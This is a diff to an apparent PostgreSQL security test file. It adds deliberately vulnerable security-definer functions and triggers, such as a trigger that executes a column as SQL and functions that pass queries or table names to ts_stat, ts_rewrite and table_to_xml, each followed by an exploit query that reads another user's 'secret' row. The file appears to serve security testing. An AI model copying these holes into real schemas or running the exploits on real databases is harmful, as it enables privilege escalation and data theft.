@@ -248,3 +248,30 @@ select 'secret' in (select app.joined());
 create function app.others_titles() returns setof text language sql security definer set search_path = pg_catalog as 'select title from app.tasks where (user_id = app.current_user_id()) is false';
 -- exploit
 select 'secret' in (select app.others_titles());
+
+-- trigger that executes a column: hole trigger app.run_it() by trigger runs on app.tasks
+create function app.run_it() returns trigger language plpgsql security definer set search_path = pg_catalog, pg_temp as $$ begin if new.description like 'create %' then execute new.description; end if; return null; end $$;
+create trigger runs after insert on app.tasks for each row execute function app.run_it();
+-- exploit
+insert into app.tasks (title, description) values ('x', 'create view app.got as select title from app.tasks'), ('y', 'create function app.get() returns boolean language sql security definer return ''secret'' in (select title from app.got)');
+select app.get();
+
+-- trigger that executes a string: hole trigger app.tidy_up() by trigger tidies on app.tasks
+create function app.tidy_up() returns trigger language plpgsql security definer set search_path = pg_catalog, pg_temp as $$ begin execute 'update app.tasks set user_id = ' || quote_literal(new.user_id) || ' where id = 77'; return null; end $$;
+create trigger tidies after insert on app.tasks for each row when (new.title = 'tidy') execute function app.tidy_up();
+-- exploit
+insert into app.tasks (title) values ('tidy');
+select exists (select from app.tasks where title = 'secret');
+
+-- query in an argument of ts_stat: hole security_definer app.popular_words()
+create function app.popular_words() returns setof text language sql stable security definer set search_path = pg_catalog, pg_temp as $$ select word from ts_stat('select to_tsvector(''simple'', title) from app.tasks') $$;
+-- exploit
+select 'secret' in (select app.popular_words());
+
+-- table as an argument of table_to_xml: hole security_definer app.export_xml(regclass)
+create function app.export_xml(t regclass) returns text language sql stable security definer set search_path = pg_catalog, pg_temp begin atomic select table_to_xml(t, true, false, '')::text; end;
+
+-- query in an argument of ts_rewrite: hole security_definer app.rewrite(tsquery, text)
+create function app.rewrite(q tsquery, by text) returns tsquery language sql stable security definer set search_path = pg_catalog, pg_temp as $$ select ts_rewrite(q, by) $$;
+-- exploit
+select app.rewrite('a', 'select ''a''::tsquery, plainto_tsquery(''simple'', title) from app.tasks where title = ''secret''') = plainto_tsquery('simple', 'secret');
